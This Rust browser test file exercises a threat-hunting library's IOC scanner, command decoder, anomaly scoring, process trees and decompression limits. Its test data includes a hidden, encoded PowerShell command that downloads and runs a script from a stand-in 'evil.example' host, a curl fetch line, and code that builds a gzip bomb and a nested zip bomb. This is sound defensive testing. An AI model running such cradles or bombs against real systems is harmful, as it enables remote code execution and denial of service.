//! The facade as JS sees it, in a real browser (headless Chromium through
//! wasm-bindgen-test-runner and chromedriver).
#![cfg(target_arch = "wasm32")]

use huntkit_wasm::{
    build_process_tree, decode_text, extract_ioc_table, ioc_types, process_tree_summary,
    score_sessions, timeseries_anomalies, IocScanner, SessionModel,
};
use wasm_bindgen::{JsCast, JsValue};
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

fn get(v: &JsValue, key: &str) -> JsValue {
    js_sys::Reflect::get(v, &JsValue::from_str(key)).unwrap()
}

#[wasm_bindgen_test]
fn scanner_finds_defanged_iocs_across_chunks() {
    let mut s = IocScanner::new(JsValue::UNDEFINED).unwrap();
    s.push("beacon to hxxps://evil[.]exam");
    s.push_bytes(b"ple[.]com/a.php from 10.1.2.3\n");
    let result = s.finish().unwrap();
    let items = js_sys::Array::from(&get(&result, "items"));
    let values: Vec<String> = items
        .iter()
        .map(|i| get(&i, "Refanged").as_string().unwrap())
        .collect();
    assert_eq!(
        values,
        [
            "https://evil.example.com/a.php",
            "evil.example.com",
            "10.1.2.3"
        ]
    );
    assert_eq!(get(&get(&result, "counts"), "ipv4").as_f64(), Some(1.0));
}

#[wasm_bindgen_test]
fn bad_options_raise_errors_with_a_kind() {
    let opts = js_sys::JSON::parse(r#"{"types": ["ipv5"]}"#).unwrap();
    let err = IocScanner::new(opts).err().unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "unknown_ioc_type");
    assert!(err.dyn_ref::<js_sys::Error>().is_some());
    let opts = js_sys::JSON::parse(r#"{"typos": true}"#).unwrap();
    let err = IocScanner::new(opts).err().unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "invalid_option");
}

#[wasm_bindgen_test]
fn table_extraction_returns_arrow() {
    let csv = b"host,cmd\nh1,curl http://1.2.3.4/x\n";
    let bytes = extract_ioc_table(csv, "csv", JsValue::UNDEFINED).unwrap();
    assert_eq!(
        &bytes[..4],
        &[0xff, 0xff, 0xff, 0xff],
        "an Arrow IPC stream"
    );
    let err = extract_ioc_table(
        b"a\nx\n",
        "csv",
        js_sys::JSON::parse(r#"{"columns":["Cmd"]}"#).unwrap(),
    )
    .err()
    .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
}

#[wasm_bindgen_test]
fn decode_powershell_encoded_command() {
    // UTF-16LE of "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
    let ps: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let b64 = base64_encode(&ps);
    let text = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}");
    let result = decode_text(&text, JsValue::UNDEFINED).unwrap();
    let annotated = get(&result, "annotated").as_string().unwrap();
    assert!(
        annotated.contains("DownloadString('http://evil.example/a.ps1')"),
        "{annotated}"
    );
    assert_eq!(ioc_types().len(), 14);
    // Numbers from JS are accepted for integer limits; a mistyped one is not.
    let limits = js_sys::JSON::parse(r#"{"max_depth": 1, "max_total_bytes": 1000000}"#).unwrap();
    assert!(decode_text(&text, limits).is_ok());
    let typo = js_sys::JSON::parse(r#"{"maxDepth": 1}"#).unwrap();
    let err = decode_text(&text, typo).err().unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "invalid_option");
}

fn base64_encode(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = (c[0] as u32) << 16
            | (*c.get(1).unwrap_or(&0) as u32) << 8
            | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[derive(serde::Deserialize)]
struct Case {
    name: String,
    text: String,
    expect: Vec<(String, String)>,
}

/// The golden cases the native build also runs (`rust/core/tests/golden.rs`).
#[wasm_bindgen_test]
fn golden_ioc_cases_agree_with_native() {
    let cases: Vec<Case> =
        serde_json::from_str(include_str!("../../../tests/golden/ioc_cases.json")).unwrap();
    for case in cases {
        let mut s = IocScanner::new(JsValue::UNDEFINED).unwrap();
        s.push(&case.text);
        let items = js_sys::Array::from(&get(&s.finish().unwrap(), "items"));
        let got: Vec<(String, String)> = items
            .iter()
            .map(|i| {
                (
                    get(&i, "IoCType").as_string().unwrap(),
                    get(&i, "Refanged").as_string().unwrap(),
                )
            })
            .collect();
        assert_eq!(got, case.expect, "case {:?}", case.name);
    }
}

/// Hourly counts over ten days with one spike: scored in the browser.
#[wasm_bindgen_test]
fn timeseries_anomalies_finds_the_spike() {
    let mut csv = String::from("TimeGenerated,Total\n");
    for hour in 0..240 {
        let n = 10 + (hour % 24) / 4 + if hour == 130 { 50 } else { 0 };
        csv.push_str(&format!(
            "2024-03-{:02}T{:02}:00:00Z,{n}\n",
            4 + hour / 24,
            hour % 24
        ));
    }
    let opts = js_sys::JSON::parse(r#"{"value_column": "Total", "period": 24}"#).unwrap();
    let result = timeseries_anomalies(csv.as_bytes(), "csv", opts).unwrap();
    let table = js_sys::Uint8Array::new(&get(&result, "table")).to_vec();
    assert_eq!(
        &table[..4],
        &[0xff, 0xff, 0xff, 0xff],
        "an Arrow IPC stream"
    );
    let periods = js_sys::Array::from(&get(&result, "periods"));
    assert_eq!(periods.length(), 1);
    assert_eq!(
        get(&periods.get(0), "start").as_string().unwrap(),
        "2024-03-09T09:00:00Z"
    );
    assert!(get(&result, "kql")
        .as_string()
        .unwrap()
        .starts_with("| where TimeGenerated between"));
    let bad = js_sys::JSON::parse(r#"{"time_column": "When"}"#).unwrap();
    let err = timeseries_anomalies(csv.as_bytes(), "csv", bad)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
}

/// MSTICPy's commands-only test sessions, scored in the browser.
#[wasm_bindgen_test]
fn sessions_are_scored_and_rescored() {
    let ndjson = [
        r#"{"session": "[\"Set-User\", \"Set-User\"]"}"#,
        r#"{"session": "[\"Set-Mailbox\", \"Set-User\", \"Set-User\"]"}"#,
    ]
    .join("\n");
    let ipc = score_sessions(ndjson.as_bytes(), "ndjson", JsValue::UNDEFINED).unwrap();
    assert_eq!(&ipc[..4], &[0xff, 0xff, 0xff, 0xff]);
    let model = SessionModel::new(ndjson.as_bytes(), "ndjson", JsValue::UNDEFINED).unwrap();
    assert_eq!(model.length(), 2);
    let liks = model.rarest_window_likelihoods(3);
    assert_eq!(liks.len(), 2);
    assert!(liks.iter().all(|l| *l > 0.0 && *l < 1.0), "{liks:?}");
    let lines = "[\"Set-User\", \"Set-User\"]\n[\"Set-Mailbox\", \"Set-User\", \"Set-User\"]\n";
    let text = js_sys::JSON::parse(r#"{"session_column": "text"}"#).unwrap();
    let from_lines = SessionModel::new(lines.as_bytes(), "lines", text).unwrap();
    assert_eq!(from_lines.rarest_window_likelihoods(3), liks);
    // Lines are parsed in place: a bad one is still named by its row, and
    // a column other than `text` still does not exist.
    let text = js_sys::JSON::parse(r#"{"session_column": "text"}"#).unwrap();
    let err = SessionModel::new(b"[\"a\"]\nnot json\n", "lines", text)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "bad_value");
    assert!(get(&err, "message").as_string().unwrap().contains("row 1"));
    let err = SessionModel::new(lines.as_bytes(), "lines", JsValue::UNDEFINED)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
    let bad = js_sys::JSON::parse(r#"{"session_column": "cmds"}"#).unwrap();
    let err = SessionModel::new(ndjson.as_bytes(), "ndjson", bad)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
}

/// Two hosts with the same PIDs: two trees, not one.
#[wasm_bindgen_test]
fn process_trees_per_host() {
    let csv = "UtcTime,Computer,Image,ProcessId,ParentImage,ParentProcessId\n\
        2024-01-01 00:00:00,A,C:\\cmd.exe,10,C:\\explorer.exe,4\n\
        2024-01-01 00:00:01,B,C:\\cmd.exe,10,C:\\explorer.exe,4\n\
        2024-01-01 00:00:02,A,C:\\ping.exe,20,C:\\cmd.exe,10\n";
    let summary = process_tree_summary(csv.as_bytes(), "csv", JsValue::UNDEFINED).unwrap();
    assert_eq!(get(&summary, "Processes").as_f64(), Some(5.0));
    assert_eq!(get(&summary, "RootProcesses").as_f64(), Some(2.0));
    assert_eq!(get(&summary, "LargestTreeDepth").as_f64(), Some(3.0));
    let ipc = build_process_tree(csv.as_bytes(), "auto", JsValue::UNDEFINED).unwrap();
    assert_eq!(&ipc[..4], &[0xff, 0xff, 0xff, 0xff]);
    let bad = js_sys::JSON::parse(r#"{"schema": "sysmon", "hosts": true}"#).unwrap();
    let err = build_process_tree(csv.as_bytes(), "csv", bad)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "invalid_option");
    let linux = js_sys::JSON::parse(r#"{"schema": "linux"}"#).unwrap();
    let err = build_process_tree(csv.as_bytes(), "csv", linux)
        .err()
        .unwrap();
    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
}

/// Milliseconds since the page started (the test runs on the page thread).
fn now_ms() -> f64 {
    js_sys::Date::now()
}

/// The wasm heap's size in MiB: linear memory never shrinks, so this is
/// the peak of everything the module allocated so far.
fn heap_mib() -> f64 {
    let memory: js_sys::WebAssembly::Memory = wasm_bindgen::memory().unchecked_into();
    js_sys::ArrayBuffer::from(memory.buffer()).byte_length() as f64 / (1 << 20) as f64
}

/// Decodes `text` with the default limits; returns (ms, warnings).
fn decode_timed(text: &str) -> (f64, Vec<String>) {
    let t0 = now_ms();
    let result = decode_text(text, JsValue::UNDEFINED).unwrap();
    let ms = now_ms() - t0;
    let warnings = js_sys::Array::from(&get(&result, "warnings"))
        .iter()
        .map(|w| w.as_string().unwrap())
        .collect();
    (ms, warnings)
}

/// Issue #16: a 1 GiB gzip bomb (1024 gzip members of 1 MiB of zeros, as
/// `cat` makes) stops at a cap, with a small heap, in the browser (its time is
/// logged, not asserted: speeds are for benchmarks).
#[wasm_bindgen_test]
fn a_1_gib_gzip_bomb_stops_in_the_browser() {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(&vec![0u8; 1 << 20]).unwrap();
    let bomb = e.finish().unwrap().repeat(1024);
    let text = format!("payload {}", base64_encode(&bomb));
    let (ms, warnings) = decode_timed(&text);
    wasm_bindgen_test::console_log!(
        "gzip bomb (1 GiB): {ms:.0} ms, wasm heap {:.0} MiB",
        heap_mib()
    );
    // Which cap trips first depends on how the members are read (each
    // member holds 1 MiB, the stream as a whole 1 GiB): either one stops it.
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("max_ratio") || w.contains("max_member_bytes")),
        "{warnings:?}"
    );
    assert!(heap_mib() < 512.0, "{} MiB", heap_mib());
}

/// Issue #16: a 42.zip-style nested zip (16 copies a level, five levels
/// over 16 members of 1 MiB of zeros) stops early in the browser.
#[wasm_bindgen_test]
fn a_nested_zip_bomb_stops_in_the_browser() {
    use std::io::{Cursor, Write};
    fn zip_of(prefix: &str, member: &[u8]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default();
        for i in 0..16 {
            w.start_file(format!("{prefix}{i}"), opts).unwrap();
            w.write_all(member).unwrap();
        }
        w.finish().unwrap().into_inner()
    }
    let mut z = zip_of("0.dat", &vec![0u8; 1 << 20]);
    for level in 1..=5 {
        z = zip_of(&format!("lib{level}_"), &z);
    }
    let (ms, warnings) = decode_timed(&base64_encode(&z));
    wasm_bindgen_test::console_log!(
        "nested zip bomb: {ms:.0} ms, wasm heap {:.0} MiB",
        heap_mib()
    );
    assert!(
        warnings.iter().any(|w| w.contains("max_ratio")),
        "{warnings:?}"
    );
    assert!(heap_mib() < 512.0, "{} MiB", heap_mib());
}
